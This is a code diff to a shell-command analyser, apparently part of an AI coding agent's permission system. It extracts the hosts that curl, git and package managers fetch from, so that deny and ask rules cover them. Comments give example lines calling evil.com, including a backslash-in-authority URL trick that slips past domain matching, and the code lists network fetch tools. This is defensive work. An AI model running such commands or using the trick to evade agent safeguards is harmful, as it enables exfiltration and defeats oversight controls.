@@ -709,7 +709,15 @@ _TRANSFERS = frozenset(TRANSFER_PLAIN_UNLESS)
 # `transfers.FETCHERS` and `GIT_REMOTES`: what they fetch goes to the fetch
 # tool, if any (a test holds them alike).
 _FETCHERS = frozenset({"curl", "wget", "http", "https", "xh", "xhs"})
-_GIT_REMOTES = frozenset({"clone", "fetch", "pull", "push", "ls-remote", "archive", "submodule"})
+_GIT_REMOTES = frozenset(
+    {"clone", "fetch", "pull", "push", "ls-remote", "archive", "submodule", "remote"}
+)
+# `registries.REGISTRY_CLIENTS` (a test holds them alike): package managers
+# whose words may name an index or registry they fetch from.
+_REGISTRY_CLIENTS = frozenset(
+    """pip pip3 uv uvx pipx npm pnpm yarn bun npx bunx pnpx cargo gem go docker podman
+    nerdctl helm python python3""".split()
+)
 _MOVES = frozenset({"cd", "pushd", "popd"})
 
 # What is not known here, among a command's words as values (a NUL, which
@@ -936,6 +944,10 @@ def _split_plain(command: str, config: ShellConfig) -> list[dict] | None:
                 out += _file_subjects(read, stripped, config, write=False)
             if written:
                 out += _file_subjects(written, stripped, config, write=True)
+        if config.fetch_tool and head in _REGISTRY_CLIENTS and len(words) > 1:
+            from .registries import registry_urls  # (`pip install x` names none)
+
+            out += _fetch_subjects(registry_urls(head, words), stripped, config)
         if loads is not None:
             for path in loads:  # inline, as for a reader's (measured)
                 out.append(
@@ -1489,6 +1501,12 @@ def _command_subjects(cmd: Command, source: str, config: ShellConfig, depth: int
             # `curl https://evil.com` fetches from evil.com: deny and ask
             # rules of the fetch tool (Claude Code's WebFetch) see it.
             later += _fetch_subjects(fetched_urls(program, values, _VARIABLE), text, config)
+    if config.fetch_tool and program in _REGISTRY_CLIENTS and len(rest) > 1:
+        from .registries import registry_urls
+
+        # `pip install -i https://evil.com/simple x`, `docker push evil.com/x`
+        values = [_up_to_variable(w) for w in rest]
+        later += _fetch_subjects(registry_urls(program, values, _VARIABLE), text, config)
     if cmd.values and len(rest) > 1:
         # `X=push; git $X` is `git push` too, for deny and ask rules (as
         # written, X may hold what the agent's environment gave it).
@@ -1581,6 +1599,15 @@ def _fetch_subjects(urls: list[str], text: str, config) -> list[dict]:
                 continue
             url = known  # the host is whole before the variable
         out.append(_fetched(url, text, config))
+        if "\\" in url:
+            # `curl 'http://a.com\@evil.com/'` reaches evil.com: to curl and
+            # wget a `\` is a character of the authority, which the domain
+            # matcher reads as WHATWG does (a `/`, so its host is a.com).
+            scheme, _, rest = url.partition("://")
+            authority = rest.split("/", 1)[0].split("?", 1)[0].split("#", 1)[0]
+            if "\\" in authority:
+                host = authority.rpartition("@")[2].replace("\\", "")
+                out.append(_fetched(f"{scheme}://{host}/", text, config))
     return out
 
 
